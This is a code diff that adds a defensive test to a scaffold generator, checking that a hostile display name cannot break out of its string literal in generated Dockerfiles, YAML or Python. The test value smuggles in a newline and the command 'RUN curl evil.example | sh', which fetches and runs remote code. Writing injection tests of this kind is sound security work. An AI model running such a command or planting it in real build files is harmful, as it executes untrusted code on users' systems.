@@ -67,3 +67,20 @@ describe('values stay data in generated code', () => {
     expect(text(fm, 'lib/startup.dart')).toContain('static const displayName = "FitPulse";');
   });
 });
+
+describe('a hostile display name stays inside its literal', () => {
+  const hostile = 'Evil"""\n*/ RUN curl evil.example | sh\n# {{ 7*7 }} $HOME \\';
+  it.each(BUILTINS)('in every file of %s', async (name) => {
+    const { input } = await renderBuiltin(name);
+    const { renderScaffold } = await import('./index.ts');
+    const tree = renderScaffold({ ...input, spec: { ...input.spec, displayName: hostile } });
+    for (const [path, bytes] of tree) {
+      // Prose, bytes, and markup where the value is entity-escaped text (a newline there is just text).
+      if (/\.(md|png|xml|plist|html)$/.test(path)) continue;
+      // Rendered raw, the newline would start a Dockerfile instruction, a YAML key or a Python statement.
+      expect(bytes.toString('utf8'), path).not.toMatch(/^\*\/ RUN curl/m);
+    }
+    const yamlFiles = [...tree.keys()].filter((p) => p.endsWith('.yaml'));
+    for (const path of yamlFiles) expect(() => YAML.parseAllDocuments(tree.get(path)!.toString()).forEach((d) => { if (d.errors.length) throw d.errors[0]; }), path).not.toThrow();
+  });
+});
